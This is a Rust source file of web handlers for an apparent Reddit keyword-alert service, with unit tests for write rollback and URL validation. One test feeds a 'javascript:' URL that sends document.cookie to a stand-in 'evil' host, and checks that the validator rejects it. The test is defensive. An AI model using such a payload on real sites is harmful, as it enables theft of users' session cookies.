use crate::engagement::{aggregate_at, window_start};
use crate::errors::AppError;
use crate::models::{
    Alert, AlertQuery, EngagementQuery, EngagementResponse, NewAlertRequest, SummaryQuery,
    SummaryResponse,
};
use crate::state::AppState;
use crate::stats::build_summary;
use crate::storage::persist_data;
use crate::ui::{is_web_url, render_dashboard, DashboardView};
use axum::{
    extract::{Query, State},
    http::StatusCode,
    response::Html,
    Json,
};
use tracing::info;

const RECENT_ALERTS: usize = 10;

pub async fn index(
    State(state): State<AppState>,
    Query(query): Query<EngagementQuery>,
) -> Html<String> {
    let now = state.clock.now();
    let data = state.data.lock().await;

    let series = aggregate_at(data.alerts_for(query.client_id), query.period, now);
    let summary = build_summary(&data, query.client_id, &state.clock);
    let recent = data.query(&AlertQuery {
        client_id: query.client_id,
        limit: Some(RECENT_ALERTS),
        offset: None,
    });

    Html(render_dashboard(&DashboardView {
        client_id: query.client_id,
        period: query.period,
        series: &series,
        summary: &summary,
        recent: &recent,
    }))
}

pub async fn list_alerts(
    State(state): State<AppState>,
    Query(query): Query<AlertQuery>,
) -> Result<Json<Vec<Alert>>, AppError> {
    let data = state.data.lock().await;
    Ok(Json(data.query(&query)))
}

pub async fn create_alert(
    State(state): State<AppState>,
    Json(payload): Json<NewAlertRequest>,
) -> Result<(StatusCode, Json<Alert>), AppError> {
    validate_alert(&payload)?;

    let mut data = state.data.lock().await;
    let previous_next_id = data.next_id;
    let alert = data.insert(payload);
    if let Err(err) = persist_data(&state.data_path, &data).await {
        // roll back so a failed write leaves the store as it was
        data.alerts.pop();
        data.next_id = previous_next_id;
        return Err(err);
    }

    info!(
        "recorded alert {} for client {} ({})",
        alert.id, alert.client_id, alert.matched_keyword
    );
    Ok((StatusCode::CREATED, Json(alert)))
}

pub async fn get_engagement(
    State(state): State<AppState>,
    Query(query): Query<EngagementQuery>,
) -> Result<Json<EngagementResponse>, AppError> {
    let now = state.clock.now();
    let data = state.data.lock().await;
    let buckets = aggregate_at(data.alerts_for(query.client_id), query.period, now);

    Ok(Json(EngagementResponse {
        period: query.period,
        generated_at: now,
        window_start: window_start(query.period, now),
        total: buckets.iter().map(|bucket| bucket.count).sum(),
        buckets,
    }))
}

pub async fn get_summary(
    State(state): State<AppState>,
    Query(query): Query<SummaryQuery>,
) -> Result<Json<SummaryResponse>, AppError> {
    let data = state.data.lock().await;
    Ok(Json(build_summary(&data, query.client_id, &state.clock)))
}

fn validate_alert(payload: &NewAlertRequest) -> Result<(), AppError> {
    let required = [
        ("post_id", &payload.post_id),
        ("subreddit", &payload.subreddit),
        ("matched_keyword", &payload.matched_keyword),
    ];
    for (field, value) in required {
        if value.trim().is_empty() {
            return Err(AppError::bad_request(format!("{field} must not be empty")));
        }
    }
    if !payload.post_url.trim().is_empty() && !is_web_url(&payload.post_url) {
        return Err(AppError::bad_request("post_url must be an http(s) URL"));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::AppData;
    use crate::state::Clock;
    use chrono::{NaiveDate, NaiveDateTime};
    use std::path::PathBuf;

    fn now() -> NaiveDateTime {
        NaiveDate::from_ymd_opt(2024, 6, 10)
            .unwrap()
            .and_hms_opt(12, 0, 0)
            .unwrap()
    }

    fn request(post_url: &str) -> NewAlertRequest {
        NewAlertRequest {
            client_id: 9,
            keyword_id: 1,
            post_id: "t3_9".into(),
            post_title: "Need a reddit monitor".into(),
            post_url: post_url.into(),
            subreddit: "saas".into(),
            matched_keyword: "monitor".into(),
            sent_at: now(),
        }
    }

    fn state_at(data_path: PathBuf) -> AppState {
        AppState::new(data_path, AppData::default(), Clock::Fixed(now()))
    }

    #[tokio::test]
    async fn failed_write_leaves_store_untouched() {
        let state = state_at(PathBuf::from("/nonexistent_alert_dir/nested/alerts.json"));

        let err = match create_alert(State(state.clone()), Json(request(""))).await {
            Ok(_) => panic!("write into a missing directory must fail"),
            Err(err) => err,
        };
        assert_eq!(err.status, StatusCode::INTERNAL_SERVER_ERROR);

        let Json(alerts) = list_alerts(State(state.clone()), Query(AlertQuery::default()))
            .await
            .unwrap();
        assert!(alerts.is_empty());
        assert_eq!(state.data.lock().await.next_id, 0);

        let Json(series) = get_engagement(
            State(state.clone()),
            Query(EngagementQuery::default()),
        )
        .await
        .unwrap();
        assert_eq!(series.total, 0);
    }

    #[tokio::test]
    async fn successful_write_keeps_alert() {
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos();
        let path = std::env::temp_dir().join(format!(
            "alerts_handler_{}_{nanos}.json",
            std::process::id()
        ));
        let state = state_at(path.clone());

        let (status, Json(alert)) =
            create_alert(State(state.clone()), Json(request("https://reddit.com/r/saas/t3_9")))
                .await
                .unwrap();
        assert_eq!(status, StatusCode::CREATED);
        assert_eq!(alert.id, 1);
        assert_eq!(state.data.lock().await.alerts.len(), 1);

        let _ = std::fs::remove_file(&path);
    }

    #[tokio::test]
    async fn script_urls_are_rejected() {
        let state = state_at(PathBuf::from("/nonexistent_alert_dir/alerts.json"));

        let err = match create_alert(
            State(state.clone()),
            Json(request("javascript:fetch('//evil/'+document.cookie)")),
        )
        .await
        {
            Ok(_) => panic!("script URL must be rejected"),
            Err(err) => err,
        };
        assert_eq!(err.status, StatusCode::BAD_REQUEST);
        assert_eq!(err.message, "post_url must be an http(s) URL");
        assert!(state.data.lock().await.alerts.is_empty());
    }
}
